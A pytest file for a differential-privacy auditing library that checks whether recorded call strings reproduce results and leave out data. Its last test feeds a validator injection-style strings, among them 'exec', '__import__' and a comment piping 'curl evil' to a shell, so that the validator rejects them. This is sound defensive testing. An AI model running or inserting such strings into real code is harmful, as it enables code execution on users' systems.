"""The call that a result keeps: it names every option that is not a default, runs again, and holds no data."""

import math

import numpy as np
import pytest

import dpaudit
from dpaudit import AddRemove, ApproxDP, GaussianDP, PrivacyProfile, check, settings
from dpaudit.audit.known_options import is_call

X, Y, FEW = [1, 1, 1], [1, 1], {"runs": 400, "jobs": 1}


def noisy(rows, size, rng):
    return len(rows) + rng.laplace(size=size)


def doubled(outputs):
    return 2 * outputs


@pytest.mark.parametrize(
    "options",
    [
        {"claim": 1.0, "adjacency": "add-remove", "name": "a 'quoted' name", "claim_source": "page 4"},
        {"claim": ApproxDP(1.0, 1e-5), "adjacency": AddRemove(), "output": doubled, "detect": 3.0, "power": 0.8},
        {"claim": (1.0, 1e-5), "seed": None, "alpha": 0.01, "ignore": ["no-power"], "floating_point": "ignore"},
        {"claim": PrivacyProfile((0.5, 1.0), (0.2, 0.05)), "distance": 1, "keep_datasets": True},
        {"claim": GaussianDP(1.0), "sequential": True, "seconds": math.inf},
    ],
)
def test_the_call_that_was_made_gives_the_same_result(options):
    first = check(noisy, X, Y, **FEW, **options)
    call = first.environment["call"]
    assert eval(call, vars(dpaudit) | {"noisy": noisy, "doubled": doubled, "x": X, "y": Y}) == first
    given = [name for name in options if name not in ("distance", "seed")]  # these are the defaults, or were drawn
    assert all(f"{name}=" in call for name in [*given, *FEW])
    assert f"seed={first.seed}" in call
    assert "distance" not in call


def test_what_cannot_be_written_is_named_and_data_are_not_shown():
    rng = np.random.default_rng(0)
    found = [
        check(lambda rows, size, rng: rng.laplace(size=size), X, Y, claim=1.0, output=lambda out: out, **FEW),
        check(lambda rows, rng: {"n": len(rows) + rng.laplace()}, X, Y, claim=1.0, output="n", **FEW),
        dpaudit.find_worst_pair(noisy, [(X, Y)], claim=1.0, search_runs=400, **FEW).audit,
        dpaudit.check_outputs([0, 1] * 300, [0, 1] * 300, claim=1.0),
        dpaudit.check_canaries(rng.normal(size=100), rng.random(100) < 0.5, claim=1.0),
        dpaudit.check_noise(noisy, X, noise=dpaudit.noise.LaplaceNoise(scale=1.0), answer=3, **FEW),
    ]
    assert [one.environment["call"] for one in found] == [
        "check(mechanism, x, y, claim=1.0, runs=400, seed=0, output=output, jobs=1)",
        "check(mechanism, x, y, claim=1.0, runs=400, seed=0, output='n', jobs=1)",
        "find_worst_pair(noisy, domain, claim=1.0, runs=400, search_runs=400, seed=0, jobs=1)",
        "check_outputs(xs, ys, claim=1.0, seed=0)",
        "check_canaries(scores, included, claim=1.0, seed=0)",
        "check_noise(noisy, dataset, noise=LaplaceNoise(scale=1.0), answer=answer, runs=400, seed=0, jobs=1)",
    ]


def test_settings_belong_to_the_call():
    with settings(runs=400, power=0.9):
        assert check(noisy, X, Y, claim=1.0).environment["call"].endswith("claim=1.0, runs=400, seed=0, power=0.9)")


@pytest.mark.parametrize(
    "text",
    [
        "exec('1')", "check(exec('1'), x, y)", "check(x.y, x, y)", "check(x, y)(z)", "check(lambda: 1)",
        "check(x) or exec(y)", "[check(x)]", "check(x", "check_(" * 5_000, "check(x); exec(y)",
        "check(x) # curl evil|sh", "check(x) #\nexec(y)", "check(x,\ny)", "check(__import__, x)",
        "check(x, __builtins__=1)", "check('\u202e', x)", "checked(x)", "",
    ],
)  # fmt: skip
def test_a_text_from_a_file_that_does_more_than_a_call_is_none(text):
    assert not is_call(text)
